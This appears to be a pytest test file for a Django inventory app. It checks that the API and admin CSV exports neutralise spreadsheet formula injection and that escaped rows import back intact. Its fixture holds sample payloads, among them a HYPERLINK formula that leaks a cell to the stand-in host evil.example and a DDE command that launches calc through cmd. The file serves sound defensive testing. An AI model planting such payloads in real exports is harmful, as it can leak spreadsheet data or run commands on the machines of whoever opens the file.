"""CSV formula injection (issue 15): exports escape text cells a spreadsheet would run as a
formula (OWASP: = + - @ tab CR get a leading '), in the API export and the admin export."""

import csv
import io

import pytest
import tablib
from django.urls import reverse

from inventory.models import Item
from inventory.resources import ItemResource, csv_safe
from inventory.services import Actor
from tests.factories import make_item

pytestmark = pytest.mark.django_db

PLANTED = {
    "title": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "brand": "@SUM(1+1)",
    "model": "+cmd|' /C calc'!A0",
    "category": "-2+3",
    "storage_location": "\tShelf A",
    "description": "\r=1+1",
}


def rows_of(content: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(content)))


@pytest.fixture
def planted(account):
    return make_item(account, n=1, sku="CSV-1", **PLANTED)


def assert_escaped(row: dict):
    for field, value in PLANTED.items():
        assert row[field] == "'" + value, field


def test_the_api_export_escapes_formula_cells(api, planted):
    response = api.get("/api/v1/items/export/")

    [row] = rows_of(b"".join(response.streaming_content).decode())
    assert_escaped(row)
    assert row["sku"] == "CSV-1"


def test_the_admin_export_escapes_formula_cells(admin_client_for, staff, planted):
    response = admin_client_for(staff).get(reverse("admin:inventory_item_export_csv"))

    [row] = rows_of(b"".join(response.streaming_content).decode())
    assert_escaped(row)


def test_numbers_and_plain_text_are_left_alone():
    assert csv_safe(-5) == -5
    assert csv_safe("Fender") == "Fender"
    assert csv_safe("1959 Les Paul - sunburst") == "1959 Les Paul - sunburst"


def test_an_exported_file_imports_back_to_the_same_text(api, account, planted):
    exported = b"".join(api.get("/api/v1/items/export/").streaming_content).decode()
    Item.objects.filter(pk=planted.pk).update(title="changed", brand="changed")
    dataset = tablib.Dataset().load(exported, format="csv")

    result = ItemResource(account=account, actor=Actor(source="test")).import_data(dataset, dry_run=False)

    assert not result.has_errors() and not result.has_validation_errors()
    planted.refresh_from_db()
    assert (planted.title, planted.brand) == (PLANTED["title"], PLANTED["brand"])
